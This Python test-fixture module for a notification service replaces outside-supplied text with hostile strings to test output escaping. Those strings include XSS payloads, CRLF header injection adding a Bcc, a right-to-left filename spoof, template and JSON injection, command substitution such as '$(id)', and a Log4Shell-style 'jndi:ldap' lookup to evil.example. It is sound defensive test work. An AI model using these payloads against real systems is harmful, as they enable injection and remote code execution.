"""Letters for tests, with names that somebody chose to do harm."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from datetime import timedelta
from typing import Final

from posture.domain.delivery import Letter
from posture.domain.judgement import Value
from posture.domain.notice import Event, Notice, digest_of
from posture.domain.severity import Severity
from posture.notify.samples import sample_letter, sample_notice


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """``shown`` is the beginning of what people see of ``text``."""

    text: str
    shown: str


def _as_it_is(text: str) -> Hostile:
    return Hostile(text=text, shown=text)


HOSTILE: Final[Mapping[str, Hostile]] = {
    "HTML": _as_it_is("<b>x</b><img src=x onerror=alert(1)>"),
    "a script": _as_it_is("</style></title><script>alert(1)</script>"),
    "the end of an attribute": _as_it_is("\"'><a href='https://evil.example'>x</a>"),
    "markdown": _as_it_is("[click](https://evil.example) **now** ![i](https://evil.example/i.png) `x` _y_ # z"),
    "a mention": _as_it_is("<at>everyone</at> <AT id=1>all</AT>"),
    "an address": _as_it_is("https://evil.example/login www.evil.example"),
    "a header": Hostile(text="x\r\nBcc: eve@example.com", shown="x\\x0d\\x0aBcc: eve@example.com"),
    "another direction": Hostile(text="invoice\u202egnp.exe", shown="invoice\\u202egnp.exe"),
    "a null byte": Hostile(text="a\0b", shown="a\\x00b"),
    "half a character": Hostile(text="a\ud800b", shown="a\\ud800b"),
    "another line": Hostile(text="a\u2028b", shown="a\\u2028b"),
    "a template": _as_it_is("{{ 7*7 }} {% raw %} {# x #}"),
    "a sum of the card's reader": _as_it_is("{{DATE(2026-01-01T00:00:00Z, SHORT)}}"),
    "a placeholder": _as_it_is("${jndi:ldap://evil.example/x} $(id) `id` %s %(x)s"),
    "the end of JSON": _as_it_is('"}], "actions": [{"type": "Action.Execute", "x": "'),
    "a backslash": _as_it_is("\\\\u0022 \\"),
    "ten kilobytes": Hostile(text="A" * 10_240, shown="A" * 30),
    "spaces": Hostile(text="   ", shown=""),
    "nothing": Hostile(text="", shown=""),
}


def hostile_letter(event: Event | None, name: str) -> Letter:
    """Return a sample in which every text that is not ours is a hostile one."""
    return letter_with(event, HOSTILE[name].text)


def letter_with(event: Event | None, text: str) -> Letter:
    """Return a sample with this text in the place of every text that directories, people or servers wrote."""
    letter = sample_letter(event)
    return replace(letter, notices=tuple(_notice_with(notice, text) for notice in letter.notices))


def _notice_with(notice: Notice, text: str) -> Notice:
    facts = {name: value if name in _OURS else _replaced(value, text) for name, value in notice.facts.items()}
    return replace(notice, facts=facts, tenant_name=text if notice.tenant_name else None)


_OURS: Final = frozenset({"by_severity", "resolution", "severity_before"})


_KEYS: Final = frozenset({"check", "title", "severity", "failed"})
"""Keys that templates ask for; the others are names of columns in checks that anybody may write."""


def _key(name: str, text: str) -> str:
    return name if name in _KEYS else f"{text} {name}"


def _replaced(value: Value, text: str) -> Value:
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [_replaced(item, text) for item in value]
    if isinstance(value, dict):
        return {
            _key(name, text): item if name == "severity" else _replaced(item, text) for name, item in value.items()
        }
    return value


def many_findings(count: int, *, tenants: Sequence[str] = ("contoso",), name: str = "Payroll") -> Letter:
    """Return a digest of so many new findings, the worst first."""
    sample = sample_notice(Event.FINDING_OPENED)
    worst_first = list(reversed(Severity))
    notices = [
        replace(
            sample,
            id=digest_of("many", number),
            about=digest_of("finding", number) * 2,
            severity=worst_first[number * len(worst_first) // count],
            tenant_name=tenants[number % len(tenants)],
            at=sample.at + timedelta(seconds=number),
            facts={**sample.facts, "resource_name": f"{name} {number}"},
        )
        for number in range(count)
    ]
    letter = sample_letter(None)
    return replace(letter, id=digest_of("many", count), notices=tuple(notices))
